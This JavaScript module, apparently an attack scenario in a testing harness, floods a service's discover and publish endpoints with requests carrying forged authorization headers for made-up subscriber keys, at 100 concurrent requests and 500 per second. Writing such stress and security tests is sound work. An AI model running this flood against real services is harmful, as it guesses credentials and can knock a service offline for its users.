// As many requests as possible under keys that do not exist.
import { forgedAuthorization } from './attack-tools.mjs';

export async function guessKeys({ discoveryUrl, catalogUrl, actions, post, keepDoing, underWay }, makeUp) {
  const targets = [`${discoveryUrl}${actions.discover.path}`, `${catalogUrl}${actions.publish.path}`];
  let sent = 0;
  const guess = () => {
    const { subscriberId, recordId } = makeUp();
    const headers = { authorization: forgedAuthorization(subscriberId, { recordId }) };
    return post(targets[sent++ % 2], { body: Buffer.from('{}'), headers });
  };
  underWay();
  await keepDoing(guess, { concurrency: 100, perSecond: 500 });
}
